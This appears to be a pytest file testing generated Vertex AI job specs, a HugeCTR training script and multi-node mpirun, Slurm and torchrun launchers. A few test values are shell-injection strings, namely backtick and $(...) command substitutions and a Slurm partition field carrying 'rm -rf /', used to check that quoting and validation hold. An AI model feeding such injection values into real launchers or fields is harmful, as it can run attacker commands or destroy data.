"""task.py, Vertex AI job specs and multi-node launchers (seed 004; issue 7).

The Vertex JSON is checked against google-cloud-aiplatform's own message types (aiplatform_v1: building a message
needs no network); the launchers run under bash with stand-in mpirun/srun/torchrun executables that record their
argv, so quoting is tested by what the program receives.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from conftest import REPO, run_ctrgen
from hugectr_run import calls_named, run_with_standin

SEED_004_ARGS = ("--model_name", "--train_data", "--valid_data", "--schema", "--dropout_rate", "--num_dense_features",
                 "--num_sparse_features", "--nnz_per_slot", "--lr", "--max_iter", "--max_eval_batches",
                 "--eval_batches", "--num_epochs", "--per_gpu_batch_size", "--snapshot_interval", "--gpus",
                 "--eval_interval", "--display_interval", "--workspace_size_per_gpu", "--num_workers")
SEED_004_SHORT = ("-t", "-v", "-i", "-b", "-s", "-r")
# The notebook passes --snapshot (an abbreviation of --snapshot_interval that argparse resolves); task.py names it.
SEED_004_NOTEBOOK_ONLY = ("--snapshot",)
VERTEX = REPO / "generated" / "deepfm_vertex"
# The tests that import google-cloud-aiplatform in the test process (about 1.2 s of CPU once per xdist worker): on one.
VERTEX_SDK = pytest.mark.xdist_group("vertex_sdk")
MULTI = REPO / "generated" / "deepfm_multinode"


def _py(script: Path, *args: str, env: dict | None = None, cwd: Path | None = None) -> subprocess.CompletedProcess:
    full_env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    full_env.update(env or {})
    return subprocess.run([sys.executable, "-W", "ignore", str(script), *args], cwd=cwd or script.parent,
                          env=full_env, capture_output=True, text=True, timeout=120)


def _py_here(script: Path, *args: str, env: dict) -> subprocess.CompletedProcess:
    """``_py`` in this process (runpy as __main__, with its argv, sys.path[0], environment, working folder and
    streams; SystemExit is the exit status): google-cloud-aiplatform is imported once per test process, not once a
    run (about 1 s of CPU each)."""
    import contextlib
    import io
    import runpy
    import warnings

    out, err = io.StringIO(), io.StringIO()
    saved = (dict(os.environ), list(sys.argv), list(sys.path), os.getcwd())
    os.environ.pop("PYTHONPATH", None)
    os.environ.update(env)
    sys.argv, sys.path[0:0] = [str(script), *args], [str(script.parent)]
    code = 0
    try:
        os.chdir(script.parent)
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err), warnings.catch_warnings():
            warnings.simplefilter("ignore")
            try:
                runpy.run_path(str(script), run_name="__main__")
            except SystemExit as exc:
                code = exc.code if isinstance(exc.code, int) else 0 if exc.code is None else 1
                if isinstance(exc.code, str):
                    print(exc.code, file=sys.stderr)
    finally:
        os.environ.clear()
        os.environ.update(saved[0])
        sys.argv, sys.path[:] = saved[1], saved[2]
        os.chdir(saved[3])
    return subprocess.CompletedProcess([sys.executable, str(script), *args], code, out.getvalue(), err.getvalue())


def _variant(tmp_path: Path, base: str, edit) -> Path:
    """A copy of a committed spec (with its lock) in tmp_path, changed by edit(doc)."""
    doc = yaml.safe_load((REPO / "specs" / f"{base}.yaml").read_text())
    edit(doc)
    doc.pop("workflow", None)
    shutil.copy(REPO / "specs" / "criteo.features.lock.json", tmp_path / "criteo.features.lock.json")
    path = tmp_path / f"{base}.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    return path


def _generate(spec: Path, out: Path) -> subprocess.CompletedProcess:
    return run_ctrgen("generate", str(spec), "--out", str(out))


def _error(proc: subprocess.CompletedProcess, field: str) -> str:
    assert proc.returncode == 2, proc.stderr + proc.stdout
    assert "Traceback" not in proc.stderr
    line = next(ln for ln in proc.stderr.splitlines() if f": {field}: " in ln)
    assert re.search(r"\.yaml:\d+:\d+: ", line), line
    return line


# ---- task.py -----------------------------------------------------------------------------------------------------

def test_task_help_lists_every_seed_004_argument_without_hugectr():
    proc = _py(VERTEX / "task.py", "--help")
    assert proc.returncode == 0, proc.stderr
    for flag in SEED_004_ARGS + SEED_004_SHORT + SEED_004_NOTEBOOK_ONLY:
        assert re.search(rf"(^|[\s,]){re.escape(flag)}[\s,]", proc.stdout), flag
    # Defaults are the spec's (seed 004's training configuration).
    assert "(default: 2048)" in proc.stdout and "(default: [[0,1,2,3]])" in proc.stdout
    assert "(default: 25000)" in proc.stdout and "(default: 2500)" in proc.stdout


def test_task_rejects_bad_arguments_with_exit_2():
    for args, text in ((["--gpus=[[0],"], "--gpus"), (["--num_sparse_features=27"], "26 categorical slots"),
                       (["--num_dense_features=12"], "13 dense"), (["--max_iter=0"], "--num_epochs"),
                       (["--per_gpu_batch_size=0"], "positive")):
        proc = _py(VERTEX / "task.py", *args)
        assert proc.returncode == 2, (args, proc.stderr)
        assert text in proc.stderr and "Traceback" not in proc.stderr


def test_task_shares_model_py_layer_code():
    """One pipeline: task.py's layers are model.py's, with args.* where an argument overrides a value."""
    model = (VERTEX / "model.py").read_text()
    task = (VERTEX / "task.py").read_text()
    calls = re.findall(r"^model\.add\(\n(?:    .*\n)*?\)", model, re.M)
    assert len(calls) > 20
    for call in calls:
        indented = "\n".join("    " + ln for ln in call.splitlines())
        indented = indented.replace("dropout_rate=0.5", "dropout_rate=args.dropout_rate")
        indented = re.sub(r"slot_size_array=\[[0-9, ]+\]", 'slot_size_array=slot_sizes("data1")', indented)
        indented = indented.replace("workspace_size_per_gpu_in_mb=2000", "workspace_size_per_gpu_in_mb=args.workspace_size_per_gpu")
        indented = indented.replace("nnz_per_slot=2,", "nnz_per_slot=args.nnz_per_slot,")
        assert indented in task, call


# ---- Vertex AI ---------------------------------------------------------------------------------------------------

@VERTEX_SDK
@pytest.mark.slow
def test_vertex_json_are_aiplatform_messages_with_seed_004_values():
    from google.cloud import aiplatform_v1 as v1

    custom_text = (VERTEX / "vertex" / "custom_job_spec.json").read_text()
    spec = v1.CustomJobSpec.from_json(custom_text)  # strict: an unknown field raises
    pool = spec.worker_pool_specs[0]
    assert (pool.machine_spec.machine_type, pool.machine_spec.accelerator_type.name,
            pool.machine_spec.accelerator_count, pool.replica_count) == ("a2-highgpu-4g", "NVIDIA_TESLA_A100", 4, 1)
    assert pool.container_spec.image_uri == "gcr.io/{project}/hugectr-training"
    assert list(pool.container_spec.command) == ["python", "-m", "task"]
    args = list(pool.container_spec.args)
    for arg in ("--per_gpu_batch_size=2048", "--max_iter=25000", "--max_eval_batches=500", "--eval_batches=2500",
                "--dropout_rate=0.5", "--lr=0.001", "--num_workers=12", "--num_epochs=0", "--eval_interval=1000",
                "--snapshot=0", "--display_interval=200", "--gpus=[[0,1,2,3]]",
                "--schema=/gcs/{bucket}/criteo/train/schema.pbtxt"):
        assert arg in args, arg

    hp_text = (VERTEX / "vertex" / "hyperparameter_tuning_job.json").read_text()
    hp = v1.HyperparameterTuningJob.from_json(hp_text)
    assert (hp.max_trial_count, hp.parallel_trial_count) == (4, 2)
    study = v1.StudySpec.from_json(json.dumps(json.loads(hp_text)["study_spec"]))
    assert [(m.metric_id, m.goal.name) for m in study.metrics] == [("AUC", "MAXIMIZE")]
    lr, dropout = study.parameters
    assert (lr.parameter_id, lr.double_value_spec.min_value, lr.double_value_spec.max_value, lr.scale_type.name) == \
        ("lr", 0.001, 0.01, "UNIT_LOG_SCALE")
    assert (dropout.parameter_id, list(dropout.discrete_value_spec.values)) == ("dropout_rate", [0.4, 0.5, 0.6])
    # The tuned arguments come from the service, not from the trial's fixed arguments.
    trial_args = list(hp.trial_job_spec.worker_pool_specs[0].container_spec.args)
    assert not [a for a in trial_args if a.startswith(("--lr=", "--dropout_rate="))]
    assert set(trial_args) == set(args) - {"--lr=0.001", "--dropout_rate=0.5"}


def test_vertex_args_parse_in_task_py():
    """Every argument the worker pool passes is one task.py accepts (parsed by task.py's own parser)."""
    doc = json.loads((VERTEX / "vertex" / "custom_job_spec.json").read_text())
    args = doc["worker_pool_specs"][0]["container_spec"]["args"]
    args = [a for a in args if not a.startswith("--schema=")]  # read at parse time; tested with a real schema
    code = ("import sys, json; sys.path.insert(0, '.'); import task; a = task.parse_args(sys.argv[1:]); "
            "print(json.dumps({k: v for k, v in vars(a).items() if k != 'cardinalities'}))")
    proc = subprocess.run([sys.executable, "-c", code, *args], cwd=VERTEX, capture_output=True, text=True,
                          timeout=60)
    assert proc.returncode == 0, proc.stderr
    parsed = json.loads(proc.stdout)
    assert parsed["snapshot_interval"] == 0 and parsed["gpus"] == [[0, 1, 2, 3]] and parsed["eval_batches"] == 2500
    assert parsed["train_data"] == ["/gcs/{bucket}/criteo/train/_file_list.txt"]


@VERTEX_SDK
@pytest.mark.slow
def test_submit_dry_run_fills_placeholders_and_needs_project(tmp_path):
    env = {"GOOGLE_CLOUD_PROJECT": "proj-1", "GOOGLE_CLOUD_REGION": "us-central1", "VERTEX_BUCKET": "bkt"}
    proc = _py_here(VERTEX / "vertex" / "submit.py", "tune", "--dry-run", "--job-id", "j1", env=env)
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    pool = doc["trial_job_spec"]["worker_pool_specs"][0]
    assert pool["container_spec"]["image_uri"] == "gcr.io/proj-1/hugectr-training"
    assert "--train_data=/gcs/bkt/criteo/train/_file_list.txt" in pool["container_spec"]["args"]
    assert doc["trial_job_spec"]["base_output_directory"]["output_uri_prefix"] == "gs://bkt/hugectr-deepfm-v01/j1"
    assert not re.search(r"\{(project|region|bucket)\}", json.dumps(doc))
    proc = _py_here(VERTEX / "vertex" / "submit.py", "custom", "--dry-run", "--project", "p", "--region", "r",
                    "--bucket", "b", "--image-uri", "us-docker.pkg.dev/p/repo/img:1", "--service-account", "sa@p",
                    env={})
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    assert doc["job_spec"]["worker_pool_specs"][0]["container_spec"]["image_uri"] == "us-docker.pkg.dev/p/repo/img:1"
    assert doc["job_spec"]["service_account"] == "sa@p" and doc["display_name"] == "hugectr-deepfm-v01"
    proc = _py_here(VERTEX / "vertex" / "submit.py", "custom", "--dry-run", env={"GOOGLE_CLOUD_PROJECT": ""})
    assert proc.returncode == 2 and "--project" in proc.stderr and "--bucket" in proc.stderr



@VERTEX_SDK
@pytest.mark.parametrize("last,code", [("JOB_STATE_SUCCEEDED", 0), ("JOB_STATE_FAILED", 1)])
def test_submit_wait_polls_a_recorded_job_until_it_ends(monkeypatch, last, code):
    """Seed 004's `job.run(sync=True)`: `custom --wait` creates the job, prints each state it polls (a recorded job:
    pending, running, then its end) and exits 0 when it succeeded, 1 otherwise. The client is a stand-in that returns
    real aiplatform_v1 messages; no network, no sleeping."""
    import time

    from google.cloud import aiplatform_v1 as v1

    name = "projects/p/locations/r/customJobs/123"
    states = iter(["JOB_STATE_PENDING", "JOB_STATE_RUNNING", last])
    calls: list = []

    class Client:
        def __init__(self, client_options):
            calls.append(("client", client_options))

        def create_custom_job(self, parent, custom_job):
            calls.append(("create", parent, custom_job.display_name))
            return v1.CustomJob(name=name, display_name=custom_job.display_name)

        def get_custom_job(self, name):
            return v1.CustomJob(name=name, state=next(states))

    monkeypatch.setattr(v1, "JobServiceClient", Client)
    monkeypatch.setattr(time, "sleep", lambda seconds: calls.append(("sleep", seconds)))
    proc = _py_here(VERTEX / "vertex" / "submit.py", "custom", "--wait", "--project", "p", "--region", "r",
                    "--bucket", "b", env={})
    assert proc.returncode == code, proc.stderr
    assert proc.stdout.splitlines() == [f"created {name}", f"{name}: JOB_STATE_PENDING", f"{name}: JOB_STATE_RUNNING",
                                        f"{name}: {last}"]
    assert calls == [("client", {"api_endpoint": "r-aiplatform.googleapis.com"}),
                     ("create", "projects/p/locations/r", "hugectr-deepfm-v01"), ("sleep", 60), ("sleep", 60)]

@VERTEX_SDK
@pytest.mark.slow
def test_study_parameter_types_render_as_messages(tmp_path):
    from google.cloud import aiplatform_v1 as v1

    def edit(doc):
        doc["vertex"]["study"]["parameters"] = [
            {"name": "lr", "type": "categorical", "values": ["0.001", "0.01"]},
            {"name": "per_gpu_batch_size", "type": "integer", "min": 1024, "max": 4096, "scale": "linear"},
            {"name": "dropout_rate", "type": "double", "min": 0.1, "max": 0.6, "scale": "reverse_log"},
            {"name": "num_workers", "type": "discrete", "values": [4, 8, 12], "scale": "linear"},
        ]
        doc["vertex"]["study"]["algorithm"] = "random"
        doc["vertex"]["study"]["max_failed_trial_count"] = 1
    proc = _generate(_variant(tmp_path, "deepfm_vertex", edit), tmp_path / "out")
    assert proc.returncode == 0, proc.stderr
    hp = v1.HyperparameterTuningJob.from_json((tmp_path / "out" / "deepfm_vertex" / "vertex" /
                                               "hyperparameter_tuning_job.json").read_text())
    cat, integer, double, discrete = hp.study_spec.parameters
    assert list(cat.categorical_value_spec.values) == ["0.001", "0.01"]
    assert (integer.integer_value_spec.min_value, integer.integer_value_spec.max_value) == (1024, 4096)
    assert double.scale_type.name == "UNIT_REVERSE_LOG_SCALE" and list(discrete.discrete_value_spec.values) == [4, 8, 12]
    assert hp.study_spec.algorithm.name == "RANDOM_SEARCH" and hp.max_failed_trial_count == 1


@pytest.mark.parametrize("edit,field,text", [
    (lambda d: d["vertex"]["study"]["parameters"].append({"name": "momentum", "type": "double", "min": 0, "max": 1}),
     "vertex.study.parameters[2].name", "not a tunable task.py argument"),
    (lambda d: d["vertex"]["study"]["parameters"][1].update(values=[0.6, 0.4]),
     "vertex.study.parameters[1].values", "increasing order"),
    (lambda d: d["vertex"]["study"]["parameters"][0].update(min=0.01, max=0.001),
     "vertex.study.parameters[0].max", "greater than min"),
    (lambda d: d["vertex"]["study"]["parameters"].append({"name": "max_iter", "type": "double", "min": 1, "max": 9}),
     "vertex.study.parameters[2].type", "is an integer"),
    (lambda d: d["vertex"]["study"]["parameters"].append({"name": "lr", "type": "double", "min": 1, "max": 9}),
     "vertex.study.parameters[2].name", "tuned twice"),
    (lambda d: d.update(targets=["hugectr", "vertex"]), "targets", "add the task target"),
    (lambda d: d["solver"].update(vvgpu=[[0, 1], [0, 1]]), "solver.vvgpu", "one node"),
])
def test_vertex_spec_errors_name_the_field(tmp_path, edit, field, text):
    proc = _generate(_variant(tmp_path, "deepfm_vertex", edit), tmp_path / "out")
    assert text in _error(proc, field)
    assert not (tmp_path / "out" / "deepfm_vertex").exists()


# ---- multi-node launchers ----------------------------------------------------------------------------------------

def _recorder(folder: Path, name: str) -> Path:
    """An executable that writes its argv (one per line, NUL-separated) to $RECORD and exits 0."""
    folder.mkdir(parents=True, exist_ok=True)
    exe = folder / name
    exe.write_text("#!/usr/bin/env python3\nimport os, sys\n"
                   "open(os.environ['RECORD'], 'w').write('\\0'.join(sys.argv[1:]))\n")
    exe.chmod(0o755)
    return exe


def _run_script(script: Path, tmp_path: Path, env: dict, *args: str) -> tuple[subprocess.CompletedProcess, list]:
    record = tmp_path / "argv"
    full = {"PATH": f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}", "RECORD": str(record), **env}
    proc = subprocess.run(["bash", str(script), *args], capture_output=True, text=True, timeout=60, env=full,
                          cwd=tmp_path)
    return proc, (record.read_text().split("\0") if record.exists() else [])


@pytest.mark.slow
def test_launchers_are_valid_bash_and_run_one_process_per_node(tmp_path):
    for script in ("mpirun.sh", "slurm.sbatch"):
        assert subprocess.run(["bash", "-n", str(MULTI / "cluster" / script)]).returncode == 0
    _recorder(tmp_path / "bin", "mpirun")
    proc, argv = _run_script(MULTI / "cluster" / "mpirun.sh", tmp_path, {}, "--lr=0.002")
    assert proc.returncode == 0, proc.stderr
    assert argv == ["-np", "2", "-H", "node0:1,node1:1", "--map-by", "ppr:1:node", "--bind-to", "none",
                    "-x", "PATH", "-x", "LD_LIBRARY_PATH", "-x", "PYTHONPATH", "python3", "task.py", "--lr=0.002"]
    proc, argv = _run_script(MULTI / "cluster" / "mpirun.sh", tmp_path, {"HOSTFILE": "my hosts"})
    assert argv[:4] == ["-np", "2", "--hostfile", "my hosts"]

    _recorder(tmp_path / "bin", "srun")
    proc, argv = _run_script(MULTI / "cluster" / "slurm.sbatch", tmp_path, {"SLURM_SUBMIT_DIR": str(MULTI)})
    assert proc.returncode == 0, proc.stderr
    assert argv == ["--nodes=2", "--ntasks-per-node=1", "--mpi=pmix", "python3", "task.py"]
    sbatch = [ln for ln in (MULTI / "cluster" / "slurm.sbatch").read_text().splitlines() if ln.startswith("#SBATCH")]
    assert sbatch == ["#SBATCH --job-name=deepfm_multinode", "#SBATCH --nodes=2", "#SBATCH --ntasks-per-node=1",
                      "#SBATCH --gpus-per-node=8", "#SBATCH --partition=gpu", "#SBATCH --time=04:00:00"]


HOSTILE = "x'; touch PWNED; echo \"$(touch PWNED2)\" `touch PWNED3` 'y"


@pytest.mark.slow
def test_hostile_values_reach_programs_as_single_arguments(tmp_path):
    from codegen.lock import load_features
    from codegen.model.build import build_model
    from codegen.render.cluster import render_cluster
    from codegen.specfile.context import open_spec

    def edit(doc):
        doc["cluster"]["hosts"] = [HOSTILE, "node $(touch PWNED4)"]
        doc["cluster"]["python"] = HOSTILE
        doc["cluster"]["rdzv_endpoint"] = HOSTILE
    spec = _variant(tmp_path, "deepfm_multinode", edit)
    ctx = open_spec(spec)
    model = build_model(ctx, *load_features(ctx))
    files = render_cluster(model, "# header", has_task=True, has_torch=True)
    folder = tmp_path / "gen" / "cluster"
    folder.mkdir(parents=True)
    for name, text in files.items():
        (folder / name).write_text(text)
    for exe in ("mpirun", "srun", "torchrun"):
        _recorder(tmp_path / "bin", exe)
    _, argv = _run_script(folder / "mpirun.sh", tmp_path, {})
    assert argv[3] == f"{HOSTILE}:1,node $(touch PWNED4):1" and argv[-2:] == [HOSTILE, "task.py"]
    _, argv = _run_script(folder / "slurm.sbatch", tmp_path, {"SLURM_SUBMIT_DIR": str(tmp_path)})
    assert argv[-2:] == [HOSTILE, "task.py"]
    _, argv = _run_script(folder / "torchrun.sh", tmp_path, {})
    assert f"--rdzv-endpoint={HOSTILE}" in argv
    assert not list(tmp_path.rglob("PWNED*")) and not list((tmp_path / "gen").rglob("PWNED*"))


@pytest.mark.slow
def test_torchrun_launcher_arguments(tmp_path):
    from codegen.lock import load_features
    from codegen.model.build import build_model
    from codegen.render.cluster import render_cluster
    from codegen.specfile.context import open_spec

    ctx = open_spec(REPO / "specs" / "deepfm_multinode.yaml")
    model = build_model(ctx, *load_features(ctx, check_stale=False))
    text = render_cluster(model, "# header", has_task=True, has_torch=True)["torchrun.sh"]
    script = tmp_path / "gen" / "cluster" / "torchrun.sh"
    script.parent.mkdir(parents=True)
    script.write_text(text)
    assert subprocess.run(["bash", "-n", str(script)]).returncode == 0
    _recorder(tmp_path / "bin", "torchrun")
    proc, argv = _run_script(script, tmp_path, {}, "--epochs", "1")
    assert proc.returncode == 0, proc.stderr
    assert argv == ["--nnodes=2", "--nproc-per-node=8", "--rdzv-backend=c10d", "--rdzv-endpoint=node0:29500",
                    "--rdzv-id=deepfm_multinode", "train_torch.py", "--epochs", "1"]
    _, argv = _run_script(script, tmp_path, {"NNODES": "1", "RDZV_ENDPOINT": "h:1"})
    assert argv[0] == "--nnodes=1" and "--rdzv-endpoint=h:1" in argv


@pytest.mark.parametrize("edit,field,text", [
    (lambda d: d["cluster"].update(hosts=["a", "b", "c"]), "cluster.hosts", "3 host(s) for 2 node(s)"),
    (lambda d: d["cluster"].update(gpus_per_node=4), "cluster.gpus_per_node", "lists 8 GPU(s)"),
    (lambda d: d["solver"].update(batchsize=65535), "solver.batchsize", "not divisible by the 16 GPUs"),
    (lambda d: d["data"].update(train_files=8), "data.train_files", "8 Parquet file(s) for 16 GPUs"),
    (lambda d: d["solver"].update(vvgpu=[[0, 1, 2, 3, 4, 5, 6, 7], [0, 1, 2, 3]], batchsize=49152),
     "solver.vvgpu", "same number"),
    (lambda d: d["cluster"]["slurm"].update(partition="gpu\nrm -rf /"), "cluster.slurm.partition", ""),
])
def test_cluster_spec_errors_name_the_field(tmp_path, edit, field, text):
    proc = _generate(_variant(tmp_path, "deepfm_multinode", edit), tmp_path / "out")
    assert text in _error(proc, field)
    assert not (tmp_path / "out" / "deepfm_multinode").exists()


# ---- task.py on the HugeCTR stand-in ----------------------------------------------------------------------------

def _standin_env(tmp_path: Path, **extra: str) -> dict:
    return {"CTRGEN_STANDIN_SKIP_DATA": "1", "AIP_MODEL_DIR": str(tmp_path / "model"),
            "CLOUD_ML_HP_METRIC_FILE": str(tmp_path / "hypertune.json"), "PYTHONWARNINGS": "ignore", **extra}


def _one(result, name: str) -> dict:
    calls = calls_named(result, name)
    assert len(calls) == 1, (name, calls)
    return calls[0]["kwargs"]


def test_task_overrides_reach_hugectr_calls(tmp_path):
    result = run_with_standin(VERTEX / "task.py", "3.2", cwd=tmp_path, env=_standin_env(tmp_path), args=[
        "--lr=0.004", "--dropout_rate=0.4", "--gpus=[[0,1]]", "-b", "1024", "--max_iter=100", "--eval_batches=2",
        "--snapshot=0", "--num_workers=4", "--workspace_size_per_gpu=61", "--max_eval_batches=7",
        "--train_data", "/d/a/_file_list.txt", "/d/b/_file_list.txt", "--valid_data=/d/v/_file_list.txt"])
    assert result.returncode == 0, result.stderr
    solver = _one(result, "hugectr.CreateSolver")
    assert (solver["lr"], solver["vvgpu"], solver["batchsize"], solver["batchsize_eval"],
            solver["max_eval_batches"], solver["repeat_dataset"]) == (0.004, [[0, 1]], 2048, 2048, 7, True)
    dropouts = [c["kwargs"] for c in calls_named(result, "hugectr.DenseLayer")
                if c["kwargs"]["layer_type"] == "Layer_t.Dropout"]
    assert [d["dropout_rate"] for d in dropouts] == [0.4, 0.4, 0.4]
    reader = _one(result, "hugectr.DataReaderParams")
    assert (reader["source"], reader["eval_source"], reader["num_workers"]) == \
        (["/d/a/_file_list.txt", "/d/b/_file_list.txt"], "/d/v/_file_list.txt", 4)
    assert _one(result, "hugectr.SparseEmbedding")["workspace_size_per_gpu_in_mb"] == 61
    fit = _one(result, "Model.fit")
    assert (fit["max_iter"], fit["num_epochs"], fit["snapshot"]) == (100, 0, 0)
    # The final AUC is the exported model's, through HugeCTR's offline inference session (seed 004's evaluate_model):
    # the files just saved, the graph JSON ps.json names, the validation list and the run's cardinalities.
    assert not calls_named(result, "Model.eval")
    params = _one(result, "hugectr.inference.InferenceParams")
    model_dir = str(tmp_path / "model")
    assert (params["model_name"], params["max_batchsize"], params["device_id"], params["i64_input_key"]) == \
        ("deepfm_vertex", 1024, 0, True)
    assert params["dense_model_file"] == f"{model_dir}/_dense_25000.model"
    assert params["sparse_model_files"] == [f"{model_dir}/0_sparse_25000.model"]
    assert _one(result, "hugectr.inference.CreateInferenceSession")["model_config_path"] == \
        f"{model_dir}/deepfm_vertex.json"
    evaluate = _one(result, "InferenceSession.evaluate")
    assert (evaluate["num_batches"], evaluate["source"], evaluate["data_reader_type"], evaluate["check_type"]) == \
        (2, "/d/v/_file_list.txt", "DataReaderType_t.Parquet", "Check_t.Non")
    assert evaluate["slot_size_array"] == _one(result, "hugectr.DataReaderParams")["slot_size_array"]
    # Saved under AIP_MODEL_DIR, AUC reported to hypertune (cloudml-hypertune's metric file).
    # The weight files are the ones ps.json names (whatever --max_iter was), so `assemble --weights` finds them.
    assert (tmp_path / "model" / "deepfm_vertex.json").is_file()
    ps = json.loads((VERTEX / "triton" / "ps.json").read_text())["models"][0]
    for served in (ps["dense_file"], *ps["sparse_files"]):
        assert (tmp_path / "model" / Path(served).name).exists(), served
    assert Path(ps["dense_file"]).name == "_dense_25000.model"
    metric = json.loads((tmp_path / "hypertune.json").read_text())
    assert metric["AUC"] == "0.0" and metric["global_step"] == "100"
    assert "AUC=0.0 (reported to hypertune)" in result.stdout


def test_task_defaults_build_model_py_graph(tmp_path):
    """With its defaults, task.py makes the calls model.py makes and writes a byte-identical graph JSON."""
    names = ("hugectr.CreateOptimizer", "hugectr.Input", "hugectr.SparseEmbedding", "hugectr.DenseLayer",
             "hugectr.DataReaderSparseParam", "hugectr.CreateSolver", "hugectr.DataReaderParams")
    model_dir, task_dir = tmp_path / "m", tmp_path / "t"
    model_dir.mkdir(), task_dir.mkdir()
    model = run_with_standin(VERTEX / "model.py", "3.2", cwd=model_dir, env=_standin_env(model_dir))
    task = run_with_standin(VERTEX / "task.py", "3.2", cwd=task_dir, env=_standin_env(task_dir))
    assert model.returncode == 0 and task.returncode == 0, model.stderr + task.stderr
    for name in names:
        assert calls_named(task, name) == calls_named(model, name), name
    assert (task_dir / "model" / "deepfm_vertex.json").read_bytes() == (model_dir / "deepfm_vertex.json").read_bytes()


def test_task_model_name_must_be_the_served_name():
    """ps.json and the Triton repository name the spec's model: another --model_name would save files nothing
    serves, so it is refused before training."""
    proc = _py(VERTEX / "task.py", "--model_name=other")
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert "--model_name=other: ps.json and the Triton repository serve this model as 'deepfm_vertex'" in proc.stderr


def test_task_evaluates_with_the_training_model_where_the_release_has_no_inference_session(tmp_path):
    """InferenceSession.evaluate is gone from HugeCTR 23.09 on (the API table): task.py then takes the training
    model's own evaluation, and says so."""
    spec = _variant(tmp_path, "deepfm_vertex", lambda d: d.update(hugectr_version="23.12"))
    assert _generate(spec, tmp_path / "out").returncode == 0
    task = tmp_path / "out" / "deepfm_vertex" / "task.py"
    text = task.read_text()
    assert "CreateInferenceSession" not in text and "HugeCTR\n    23.12 has no offline" in text
    # The stand-in imitates 3.2, 3.3, 4.3 and 23.06; the loop is the one those releases' runs already take.
    loop = text[text.index("def final_auc("):text.index("def report(")]
    assert "model.eval()" in loop and "model.get_eval_metrics()" in loop
    compile(text, str(task), "exec")


def test_task_without_hypertune_prints_the_metric(tmp_path):
    blocker = tmp_path / "block" / "hypertune"
    blocker.mkdir(parents=True)
    (blocker / "__init__.py").write_text("raise ImportError('not installed')\n")
    result = run_with_standin(VERTEX / "task.py", "3.2", cwd=tmp_path, args=["--max_iter=10"],
                              env=_standin_env(tmp_path, PYTHONPATH=str(tmp_path / "block")))
    assert result.returncode == 0, result.stderr
    assert "AUC=0.0 (hypertune is not installed; not reported)" in result.stdout
    assert not (tmp_path / "hypertune.json").exists()


def test_multinode_task_runs_all_nodes_gpus(tmp_path):
    result = run_with_standin(MULTI / "task.py", "23.06", cwd=tmp_path, env=_standin_env(tmp_path),
                              args=["--max_iter=10", "--per_gpu_batch_size=512"])
    assert result.returncode == 0, result.stderr
    solver = _one(result, "hugectr.CreateSolver")
    assert solver["vvgpu"] == [list(range(8))] * 2 and solver["batchsize"] == 512 * 16


@pytest.mark.slow
def test_task_schema_cardinalities_by_column_name(tmp_path):
    from codegen.workflow import read_schema
    from demo_data import built_demo

    schema = built_demo().paths["criteo"]["train"] / "schema.pbtxt"
    expected = {c.name: c.cardinality for c in read_schema(schema).columns}
    result = run_with_standin(VERTEX / "task.py", "3.2", cwd=tmp_path, env=_standin_env(tmp_path),
                              args=[f"--schema={schema}", "--max_iter=10"])
    assert result.returncode == 0, result.stderr
    slots = [f"C{i}" for i in range(1, 27)]
    assert _one(result, "hugectr.DataReaderParams")["slot_size_array"] == [expected[c] for c in slots]
    assert _one(result, "hugectr.SparseEmbedding")["slot_size_array"] == [expected[c] for c in slots]

    # A schema.json with other cardinalities (reversed column order: matched by name, not position).
    doc = {"feature": [{"name": c, "type": "INT", "annotation": {"tag": ["categorical"], "extraMetadata": [
        {"embedding_sizes": {"cardinality": float(1000 + i), "dimension": 16.0}}]}} for i, c in enumerate(slots)][::-1]}
    (tmp_path / "schema.json").write_text(json.dumps(doc))
    result = run_with_standin(VERTEX / "task.py", "3.2", cwd=tmp_path, env=_standin_env(tmp_path),
                              args=["--schema=schema.json", "--max_iter=10"])
    assert result.returncode == 0, result.stderr
    assert _one(result, "hugectr.DataReaderParams")["slot_size_array"] == list(range(1000, 1026))

    doc["feature"] = doc["feature"][1:]   # drops C26
    (tmp_path / "schema.json").write_text(json.dumps(doc))
    result = run_with_standin(VERTEX / "task.py", "3.2", cwd=tmp_path, env=_standin_env(tmp_path),
                              args=["--schema=schema.json"])
    assert result.returncode == 2 and "no cardinality for categorical column(s) ['C26']" in result.stderr
    assert not result.calls


@pytest.mark.slow
def test_torchrun_launcher_rendezvous_of_two_nodes(tmp_path):
    """Two copies of torchrun.sh (two "nodes" on this machine) meet at the c10d rendezvous with real torchrun."""
    import socket

    from codegen.lock import load_features

    from codegen.model.build import build_model

    from codegen.render.cluster import render_cluster

    from codegen.specfile.context import open_spec

    ctx = open_spec(REPO / "specs" / "deepfm_multinode.yaml")
    model = build_model(ctx, *load_features(ctx, check_stale=False))
    gen = tmp_path / "gen"
    (gen / "cluster").mkdir(parents=True)
    (gen / "cluster" / "torchrun.sh").write_text(
        render_cluster(model, "# header", has_task=True, has_torch=True)["torchrun.sh"])
    (gen / "train_torch.py").write_text(
        "import os, sys\n"
        "open(os.path.join(sys.argv[1], 'rank' + os.environ['RANK']), 'w').write(os.environ['WORLD_SIZE'])\n")
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {**os.environ, "NNODES": "2", "NPROC_PER_NODE": "1", "RDZV_ENDPOINT": f"127.0.0.1:{port}",
           "TORCHRUN": str(Path(sys.executable).parent / "torchrun")}
    nodes = [subprocess.Popen(["bash", str(gen / "cluster" / "torchrun.sh"), str(tmp_path)], env=env,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    outs = [p.communicate(timeout=180) for p in nodes]
    assert [p.returncode for p in nodes] == [0, 0], outs
    assert sorted(f.name for f in tmp_path.glob("rank*")) == ["rank0", "rank1"]
    assert {f.read_text() for f in tmp_path.glob("rank*")} == {"2"}


# ---- seed 004's container, trials and best-trial deploy ------------------------------------------------------------

def test_container_files_pin_the_seed_image_and_build_task_py():
    """vertex/Dockerfile is seed 004's Dockerfile.hugectr (its Merlin image, pinned; cloudml-hypertune at the
    project's pin; task.py where `python -m task` finds it) and cloudbuild.yaml builds it as the seed's build does."""
